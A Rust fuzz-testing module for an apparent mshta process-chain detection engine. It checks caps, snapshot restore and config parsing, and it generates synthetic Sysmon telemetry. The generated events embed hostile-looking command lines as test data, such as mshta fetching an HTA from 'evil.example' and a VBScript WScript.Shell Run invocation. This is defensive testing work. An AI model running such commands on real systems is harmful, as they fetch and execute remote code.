//! Fuzz targets for mshta-chain-core, shared by the coverage-guided
//! libFuzzer binaries (`fuzz/libfuzzer/fuzz_targets/`, built by `cargo fuzz`
//! on the pinned stable toolchain with `--sanitizer none`) and by the replay
//! of every input that ever failed (`tests/fuzz-regressions/<target>/`, run
//! by `cargo test`). Each target takes bytes and must never panic; the
//! engine targets also check the invariants hostile input must not break
//! (tracked state within the caps, a restored engine continuing exactly as
//! one never restored). `seeds` builds the starting corpora from the
//! repository's test data (`fuzz-seeds` writes them to disk).

use mshta_chain_core::{Config, Engine, Report, Update};
use std::path::Path;

pub mod structured;

/// A small deterministic PRNG (xorshift64*).
#[derive(Debug, Clone)]
pub struct Rng(pub u64);

impl Rng {
    /// The next 64 random bits.
    pub fn bits(&mut self) -> u64 {
        let mut x = self.0.max(1);
        x ^= x >> 12;
        x ^= x << 25;
        x ^= x >> 27;
        self.0 = x;
        x.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }
    /// A number below `n` (0 when `n` is 0).
    pub fn below(&mut self, n: usize) -> usize {
        if n == 0 {
            0
        } else {
            (self.bits() % n as u64) as usize
        }
    }
    /// True `percent` percent of the time.
    pub fn chance(&mut self, percent: u64) -> bool {
        self.bits() % 100 < percent
    }
}

/// The targets, by name.
pub const TARGETS: &[&str] = &["split_decode", "engine", "engine_events", "snapshot", "config"];

/// Runs one target on one input. Panics are the failures looked for.
pub fn run(target: &str, data: &[u8]) {
    match target {
        "split_decode" => split_decode(data),
        "engine" => engine(data),
        "engine_events" => engine_events(data),
        "snapshot" => snapshot(data),
        "config" => config(data),
        _ => panic!("unknown fuzz target {target}"),
    }
}

/// Input splitting and decoding of every schema: the bytes as one push, and
/// cut in two where the first byte says.
fn split_decode(data: &[u8]) {
    let config = Config { max_item_bytes: 4096, ..Config::default() };
    let whole = mshta_chain_core::analyze(data, &config).expect("valid config");
    assert_eq!(whole.stats.events, whole.stats.accepted + whole.stats.rejected);
    let cut = data.first().map_or(0, |&b| usize::from(b) * data.len() / 256);
    let mut e = Engine::new(config).expect("valid config");
    e.push(&data[..cut]);
    e.push(&data[cut..]);
    let r = e.finish();
    assert_eq!(r.stats.events, r.stats.accepted + r.stats.rejected);
}

/// `Engine::push`/`finish` with small caps, pushed in pieces: tracked state
/// never exceeds the caps after any push, and no chain lists past its cap.
fn engine(data: &[u8]) {
    // The caps the committed regression inputs were found with.
    let config = Config {
        max_processes: 100,
        max_activity: 100,
        max_chain_children: 5,
        max_chain_activity: 5,
        max_chains: 3,
        max_inventory: 4,
        ..Config::default()
    };
    let mut e = Engine::new(config.clone()).expect("valid config");
    let mut rng = Rng(data.len() as u64 + 1);
    let mut rest = data;
    while !rest.is_empty() {
        let n = 1 + rng.below(rest.len().min(4096));
        let (piece, tail) = rest.split_at(n);
        rest = tail;
        let u = e.push(piece);
        check_caps(&config, &u, &e.report());
    }
    let snap = e.snapshot();
    let mut again = Engine::restore_saved(&snap).expect("a fresh snapshot restores");
    let (a, b) = (again.finish(), e.finish());
    assert_eq!(a, b, "snapshot/restore changes nothing");
}

/// The caps the engine targets run with (small, so that fuzz inputs reach
/// them): `max_processes`, `max_activity`, per-chain caps, `max_chains`.
fn small_caps(choice: u8) -> Config {
    let n = |base: usize| base + usize::from(choice % 4) * base;
    Config {
        // The lowest the config allows.
        max_processes: 100 + usize::from(choice % 2) * 50,
        max_activity: 100 + usize::from(choice % 2) * 50,
        max_chain_children: n(2),
        max_chain_activity: n(2),
        max_chains: n(1),
        max_inventory: n(2),
        max_errors: n(3),
        max_item_bytes: 8192,
        ..Config::default()
    }
}

/// What must hold after every push: tracked state within the caps, chain
/// lists within the per-chain caps.
fn check_caps(config: &Config, update: &Update, report: &Report) {
    for c in &update.chains {
        let chain = &c.chain;
        assert!(chain.children.len() <= config.max_chain_children, "children past the cap");
        for len in [chain.files.len(), chain.network.len(), chain.dns.len(), chain.modules.len()] {
            assert!(len <= config.max_chain_activity, "activity past the per-chain cap");
        }
    }
    let s = &report.stats;
    assert!(
        s.processes_tracked as usize <= config.max_processes,
        "processes past max_processes: {}",
        s.processes_tracked
    );
    assert!(s.activity_tracked as usize <= config.max_activity, "activity past max_activity: {}", s.activity_tracked);
    assert!(report.errors.len() <= config.max_errors, "errors past max_errors");
}

/// `Engine::push`/`finish` with structure-aware events (`structured`):
/// pushes cut anywhere, caps checked after every push, and at each restore
/// point the engine continues from its snapshot while a twin continues
/// without one: every later update and the final report must be equal.
fn engine_events(data: &[u8]) {
    let (choice, ops) = structured::script(data);
    let config = small_caps(choice);
    let mut twin = Engine::new(config.clone()).expect("valid config");
    let mut engine: Option<Engine> = None;
    let mut renderer = structured::Renderer::default();
    let mut pending = Vec::new();
    let mut restores = 0;
    let push = |twin: &mut Engine, engine: &mut Option<Engine>, bytes: &[u8]| {
        let a = twin.push(bytes);
        check_caps(&config, &a, &twin.report());
        if let Some(e) = engine.as_mut() {
            let b = e.push(bytes);
            assert_eq!(a, b, "a restored engine's update differs from the one never restored");
        }
    };
    for op in &ops {
        match op {
            structured::Op::Event(ev) => renderer.event(ev, &mut pending),
            structured::Op::Raw(bytes) => pending.extend_from_slice(bytes),
            structured::Op::Push(cut) => {
                let at = usize::from(*cut).min(pending.len());
                let rest = pending.split_off(at);
                push(&mut twin, &mut engine, &pending);
                pending = rest;
            }
            // A few restore points are enough; each costs a full settle.
            structured::Op::Restore if restores < 3 => {
                restores += 1;
                let from = engine.as_ref().unwrap_or(&twin);
                let snap = from.snapshot();
                engine = Some(Engine::restore_saved(&snap).expect("a fresh snapshot restores"));
            }
            structured::Op::Restore => {}
        }
    }
    renderer.end(&mut pending);
    push(&mut twin, &mut engine, &pending);
    let a = twin.finish();
    if let Some(mut e) = engine {
        assert_eq!(a, e.finish(), "a restored engine's report differs from the one never restored");
    }
}

/// Snapshot restore of damaged bytes: an error, or an engine whose report,
/// pushes and finish work.
fn snapshot(data: &[u8]) {
    // Damage that the checksum would catch teaches nothing: restore the
    // bytes as they are, and re-sealed (checksum recomputed, as a forger
    // would), so the payload's own checks are what is exercised.
    restore_any(data);
    let mut sealed = data.to_vec();
    if sealed.len() >= 22 {
        let end = sealed.len() - 8;
        let len = (end - 14) as u64;
        sealed[6..14].copy_from_slice(&len.to_le_bytes());
        let sum = sealed[14..end]
            .iter()
            .fold(0xcbf2_9ce4_8422_2325u64, |h, &b| (h ^ u64::from(b)).wrapping_mul(0x0100_0000_01b3));
        sealed[end..].copy_from_slice(&sum.to_le_bytes());
        restore_any(&sealed);
    }
}

fn restore_any(data: &[u8]) {
    if let Ok(mut e) = Engine::restore_saved(data) {
        let _ = e.report();
        e.push(b"{\"EventID\":1}\n");
        let r = e.finish();
        let text = serde_json::to_string(&r).expect("a report serialises");
        assert!(!text.is_empty());
    }
    let _ = Engine::restore(data, Config::default());
}

/// Config parsing: an error that says why, or a config an engine runs.
fn config(data: &[u8]) {
    let Ok(text) = std::str::from_utf8(data) else { return };
    match Config::from_json(text) {
        Ok(c) => {
            let mut e = Engine::new(c).expect("a parsed config is valid");
            e.push(b"{}\n");
            let _ = e.finish();
        }
        Err(err) => assert!(!err.0.is_empty() && err.0.len() < 2_000, "{}", err.0.len()),
    }
}

/// The repository's test data the seed corpora are made of.
#[derive(Debug, Default)]
pub struct RepoData {
    /// Telemetry documents: real recordings (`tests/data/realdata`, cut to
    /// 40 lines), the XML renderings (`tests/data/xml`), the snapshot
    /// fixtures' input and each scenario's events (`tests/scenarios`), one
    /// per line: every schema the core decodes.
    pub telemetry: Vec<Vec<u8>>,
    /// Snapshot fixtures (`tests/data/snapshots/*.snap`).
    pub snapshots: Vec<Vec<u8>>,
    /// Scenario configs (`tests/scenarios/*.json`, their `config`).
    pub configs: Vec<Vec<u8>>,
}

fn files(dir: &Path, ext: &str) -> Vec<std::path::PathBuf> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(dir) = stack.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else { continue };
        for p in entries.flatten().map(|e| e.path()) {
            if p.is_dir() {
                stack.push(p);
            } else if p.extension().is_some_and(|x| x == ext) {
                out.push(p);
            }
        }
    }
    out.sort();
    out
}

/// Seed inputs are kept small (libFuzzer's `-max_len` is 64 KiB).
const SEED_BYTES: usize = 60_000;

impl RepoData {
    /// Reads the test data under the repository root.
    pub fn read(root: &Path) -> RepoData {
        let mut d = RepoData::default();
        let data = root.join("tests/data");
        for p in files(&data.join("realdata"), "jsonl").into_iter().chain(files(&data.join("snapshots"), "jsonl")) {
            let Ok(text) = std::fs::read(&p) else { continue };
            let lines: Vec<&[u8]> = text.split(|&b| b == b'\n').filter(|l| !l.is_empty()).collect();
            for chunk in lines.chunks(40).take(8) {
                d.telemetry.push(chunk.join(&b'\n'));
            }
        }
        for p in files(&data.join("xml"), "xml") {
            if let Ok(text) = std::fs::read(&p) {
                d.telemetry.push(text);
            }
        }
        for p in files(&data.join("snapshots"), "snap") {
            if let Ok(bytes) = std::fs::read(&p) {
                d.snapshots.push(bytes);
            }
        }
        for p in files(&root.join("tests/scenarios"), "json") {
            let Ok(text) = std::fs::read_to_string(&p) else { continue };
            let Ok(v) = serde_json::from_str::<serde_json::Value>(&text) else { continue };
            if let Some(config) = v.get("config") {
                d.configs.push(config.to_string().into_bytes());
            }
            let mut doc = Vec::new();
            for ev in v.get("events").and_then(|e| e.as_array()).into_iter().flatten() {
                match ev.as_str() {
                    Some(line) => doc.extend_from_slice(line.as_bytes()),
                    None => doc.extend_from_slice(ev.to_string().as_bytes()),
                }
                doc.push(b'\n');
            }
            d.telemetry.push(doc);
        }
        for t in &mut d.telemetry {
            t.truncate(SEED_BYTES);
        }
        d
    }
}

/// Seed inputs per target: the repository's test data and generated ones.
pub fn seeds(target: &str, data: &RepoData) -> Vec<Vec<u8>> {
    let mut rng = Rng(7);
    match target {
        "snapshot" => {
            let mut out = data.snapshots.clone();
            for (i, doc) in data.telemetry.iter().enumerate().step_by(7) {
                let config = if i % 2 == 0 { Config::default() } else { small_caps(i as u8) };
                let mut e = Engine::new(config).expect("valid config");
                // Pushed up to the middle of the last line: a carried partial line.
                e.push(&doc[..doc.len() - doc.len() / 8]);
                out.push(e.snapshot());
            }
            let mut e = Engine::new(Config::default()).expect("valid config");
            e.push(&events(&mut rng, 60));
            out.push(e.snapshot());
            out.retain(|s| s.len() <= SEED_BYTES);
            out
        }
        "config" => {
            let mut out = data.configs.clone();
            out.extend([
                br#"{"window_seconds": 300, "min_score": 20, "weights": {"parent_explorer": 0}}"#.to_vec(),
                br#"{"allow": {"command_lines": ["\\\\fs\\hta\\[a-z]+"], "networks": ["10.0.0.0/8"], "hosts": ["*.lab"]}}"#
                    .to_vec(),
                br#"{"baseline": [{"shape": "mshta", "parent": "explorer.exe"}], "max_chain_children": 3}"#.to_vec(),
                serde_json::to_vec(&Config::default()).expect("a config serialises"),
            ]);
            out
        }
        "engine_events" => (0..32)
            .map(|_| {
                let n = 64 + rng.below(2048);
                (0..n).map(|_| rng.bits() as u8).collect()
            })
            .collect(),
        _ => {
            let mut out = data.telemetry.clone();
            for _ in 0..10 {
                out.push(events(&mut rng, 50));
            }
            out
        }
    }
}

/// Structure-aware events: Sysmon process trees around mshta, network, DNS,
/// files, module loads, ends, Security 4688, with hostile values mixed in
/// (lone surrogates, huge numbers, far-future times, self-parents, deep
/// nesting), in JSON Lines, arrays, several per line and CR endings.
pub fn events(rng: &mut Rng, n: usize) -> Vec<u8> {
    const IMAGES: &[&str] = &[
        r"C:\\Windows\\System32\\mshta.exe",
        r"C:\\Windows\\System32\\cmd.exe",
        r"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        r"C:\\Windows\\explorer.exe",
    ];
    let mut out = String::new();
    let mut t: i64 = 1_714_557_600_000;
    for _ in 0..n {
        t += rng.below(5_000) as i64;
        let when = if rng.chance(2) { 253_402_300_000_000 } else { t };
        let time = format!("{}", when);
        let g = rng.below(40);
        let pg = if rng.chance(5) { g } else { rng.below(40) };
        let pid = match rng.below(20) {
            0 => "\"-1\"".to_string(),
            1 => "18446744073709551616".to_string(),
            2 => "1e999".to_string(),
            3 => "\"NaN\"".to_string(),
            _ => format!("\"{}\"", 100 + g),
        };
        let image = IMAGES[rng.below(IMAGES.len())];
        let cmd = match rng.below(6) {
            0 => "mshta https://evil.example/a\\ud800.hta".to_string(),
            1 => "mshta vbscript:Execute(\\\"CreateObject(\\\"\\\"WScript.Shell\\\"\\\").Run\\\")".to_string(),
            2 => format!("cmd /c {}", "A".repeat(rng.below(3000))),
            _ => format!("mshta https://h{}.example/x.hta", rng.below(30)),
        };
        let host = format!("PC{}", rng.below(3));
        let head = format!(
            r#""Channel":"Microsoft-Windows-Sysmon/Operational","Hostname":"{host}","UtcTime":{time},"ProcessGuid":"{{11111111-0000-0000-0000-{g:012x}}}","ProcessId":{pid},"Image":"{image}""#
        );
        let ev = match rng.below(8) {
            0..=2 => format!(
                r#"{{"EventID":1,{head},"CommandLine":"{cmd}","ParentProcessGuid":"{{11111111-0000-0000-0000-{pg:012x}}}","ParentProcessId":"{}","ParentImage":"{}"}}"#,
                100 + pg,
                IMAGES[rng.below(IMAGES.len())]
            ),
            3 => format!(
                r#"{{"EventID":3,{head},"DestinationIp":"203.0.113.{}","DestinationPort":"443","Initiated":"true"}}"#,
                rng.below(255)
            ),
            4 => format!(r#"{{"EventID":22,{head},"QueryName":"q{}.example"}}"#, rng.below(50)),
            5 => format!(r#"{{"EventID":11,{head},"TargetFilename":"C:\\Users\\Public\\f{}.hta"}}"#, rng.below(50)),
            6 => format!(r#"{{"EventID":5,{head}}}"#),
            _ => format!(
                r#"{{"EventID":7,{head},"ImageLoaded":"C:\\Windows\\System32\\vbscript.dll","x":{}{}}}"#,
                "[".repeat(rng.below(200)),
                "]".repeat(rng.below(200))
            ),
        };
        match rng.below(10) {
            0 => out.push_str(&format!("[{ev}]\n")),
            1 => out.push_str(&format!("{ev} ")),
            2 => out.push_str(&format!("{ev}\r")),
            _ => out.push_str(&format!("{ev}\n")),
        }
    }
    out.into_bytes()
}
